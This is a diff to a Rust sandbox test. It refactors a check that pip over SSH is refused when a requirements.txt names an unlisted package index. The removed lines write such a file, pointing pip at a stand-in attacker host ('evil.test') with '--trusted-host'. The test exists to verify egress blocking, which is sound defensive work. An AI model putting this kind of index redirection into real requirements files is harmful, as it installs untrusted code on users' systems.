@@ -4,7 +4,9 @@
 //! server answers it on `localhost` and nobody outside.
 
 use crate::common::*;
-use crate::egress::{policies, pypiserver, server};
+use crate::egress::{
+    policies, pypiserver, requirements_naming_an_unlisted_index_are_refused, server,
+};
 use crate::remote_sessions::{ssh_fixture, ssh_home};
 use execkit_runner::Session;
 
@@ -131,23 +133,7 @@ async fn ssh_pip_installs_from_a_listed_index_through_the_helpers_broker() {
     let r = ok(&s, &format!("{pip} --index-url http://registry.test:{port}/simple/ --trusted-host registry.test six idna && .venv/bin/python -c 'import six; print(six.__version__)'")).await;
     assert_eq!(r.stdout.trim(), "1.17.0", "{r:?}");
     assert!(r.runtime_denials.is_empty(), "{r:?}");
-    std::fs::write(
-        ws.join("requirements.txt"),
-        format!("--index-url http://evil.test:{port}/simple/\n--trusted-host evil.test\nsix\n"),
-    )
-    .unwrap();
-    let r = run(
-        &s,
-        &format!("{pip} --retries 0 --force-reinstall -r requirements.txt"),
-    )
-    .await;
-    assert_ne!(r.exit_code, Some(0), "{r:?}");
-    assert!(
-        r.runtime_denials
-            .iter()
-            .any(|d| d.destination.as_deref() == Some(&format!("evil.test:{port}"))),
-        "{r:?}"
-    );
+    requirements_naming_an_unlisted_index_are_refused(&s, &ws, port).await;
     s.close().await;
     let _ = index.kill();
     let _ = index.wait();
